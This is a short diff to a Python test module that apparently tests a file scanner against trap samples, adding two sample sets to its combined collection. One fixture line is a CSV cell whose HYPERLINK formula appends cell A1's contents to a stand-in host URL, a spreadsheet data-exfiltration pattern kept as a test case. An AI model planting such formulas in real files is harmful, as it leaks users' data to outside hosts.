@@ -9,7 +9,7 @@ from typing import Any
 import pikepdf
 from pikepdf import Array, Dictionary, Name
 
-from tests.vault import computed, disguised, packed, samples
+from tests.vault import astray, computed, disguised, packed, samples, tables
 from tests.vault.packed import R, Trap
 
 
@@ -249,4 +249,7 @@ OTHERS: dict[str, Trap] = {
     "a cell that links": ("a.csv", b'a,=HYPERLINK("https://piege.test?"&A1)\n', R.TEXT_FORMULA),
 }
 
-ALL = {**packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **computed.FORMULAS, **PDFS, **OTHERS}
+ALL = {
+    **packed.ZIPS, **packed.OFFICE, **disguised.WRITTEN, **computed.FORMULAS, **tables.TABLES,
+    **astray.LINKS, **PDFS, **OTHERS,
+}  # fmt: skip
